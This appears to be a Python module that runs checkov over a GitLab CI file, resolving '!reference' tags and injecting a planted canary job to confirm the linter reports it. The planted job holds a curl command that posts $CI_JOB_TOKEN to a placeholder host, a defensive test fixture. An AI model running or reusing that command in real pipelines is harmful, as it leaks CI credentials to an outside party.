"""checkov on the pipelines of GitLab, with what they refer to in its place.

It has few rules for them, and reads nothing of a file with a ``!reference``. `lint-workflows`
holds the file to GitLab's own schema besides.
"""

import tempfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, TypeAlias

import yaml

from development.second_opinion import checkov
from development.second_opinion.checkov import TOOL
from development.second_opinion.finding import PLANTED, Finding, LinterError, without_planted

FILE = ".gitlab-ci.yml"

_Plain: TypeAlias = Any
"""A plain YAML value, or a `_Reference`."""

_PLANTED: _Plain = {
    "image": "nginx",
    "script": ["curl -d $CI_JOB_TOKEN https://elsewhere.example"],
}
# Sends what the pipeline has to somebody.
_RULES = ("CKV_GITLABCI_1",)


class _Reference(list[str]):
    """The way to what stands elsewhere in the file."""


class _Loader(yaml.SafeLoader):
    """Reads GitLab's references."""


def _reference(loader: yaml.SafeLoader, node: yaml.SequenceNode) -> _Reference:
    return _Reference(loader.construct_sequence(node))


_Loader.add_constructor("!reference", _reference)


def findings(root: Path, program: Path) -> Sequence[Finding]:
    """What checkov finds in the pipelines of a checkout.

    Args:
        root: the checkout.
        program: checkov.

    Raises:
        LinterError: it is not there, did not run, could not read the file or missed what is
            planted.
    """
    whole = {**read((root / FILE).read_text(encoding="utf-8")), PLANTED: _PLANTED}
    with tempfile.TemporaryDirectory() as folder:
        text = yaml.safe_dump(whole, sort_keys=False)
        (Path(folder) / FILE).write_text(text, encoding="utf-8")
        found = checkov.run(program, "gitlab_ci", Path(folder))
    placed = [Finding(it.tool, it.rule, f"{FILE} {it.where}", it.says) for it in found]
    return without_planted(TOOL, placed, _RULES)


def read(text: str) -> dict[str, _Plain]:
    """A file of pipelines with all references in it resolved.

    Raises:
        LinterError: it is no such file, or refers to nothing.
    """
    try:
        held = yaml.load(text, _Loader)  # noqa: S506 - a safe loader, but for its name
    except yaml.YAMLError as error:
        raise LinterError(f"{FILE}: {error}") from error
    if not isinstance(held, dict):
        raise LinterError(f"{FILE} is no map of jobs")
    return {key: _whole(value, held) for key, value in held.items()}


def _whole(value: _Plain, held: _Plain) -> _Plain:
    if isinstance(value, _Reference):
        return _whole(_named(value, held), held)
    if isinstance(value, dict):
        return {key: _whole(inner, held) for key, inner in value.items()}
    if isinstance(value, list):
        return list(_flat(value, held))
    return value


def _flat(values: _Plain, held: _Plain) -> Iterator[_Plain]:
    """A list; what a reference in it names is part of it, as GitLab has it."""
    for each in values:
        whole = _whole(each, held)
        if isinstance(each, _Reference) and isinstance(whole, list):
            yield from whole
        else:
            yield whole


def _named(way: _Reference, held: _Plain) -> _Plain:
    found = held
    for name in way:
        if not isinstance(found, dict) or name not in found:
            raise LinterError(f"{FILE}: !reference [{', '.join(way)}] names nothing")
        found = found[name]
    return found
